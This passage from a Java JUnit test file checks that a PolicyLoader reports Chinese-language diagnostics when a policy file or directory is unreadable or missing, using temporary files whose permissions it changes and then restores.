      Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("---------"));
      Files.setPosixFilePermissions(closed, PosixFilePermissions.fromString("---------"));
      assumeFalse(Files.isReadable(file), "running with rights to read anything (root): nothing to test");

      PolicyLoader.Loaded l = new PolicyLoader(RULES).load(file);
      assertNull(l.policy());
      assertEquals(1, l.diagnostics().size());
      assertEquals("无法读取文件：没有读取权限", l.diagnostics().get(0).message());

      List<Diagnostic> problems = new ArrayList<>();
      assertEquals(List.of(), PolicyLoader.expand(List.of(closed), problems));
      assertEquals(1, problems.size());
      assertEquals("无法读取目录：没有读取权限", problems.get(0).message());
    } finally {
      Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-------"));
      Files.setPosixFilePermissions(closed, PosixFilePermissions.fromString("rwx------"));
    }
  }

  @Test
  void missingFileIsADiagnostic(@TempDir Path dir) {
    PolicyLoader.Loaded l = new PolicyLoader(RULES).load(dir.resolve("none.yaml"));
    assertNull(l.policy());
    assertEquals("文件不存在", l.diagnostics().get(0).message());
  }
}
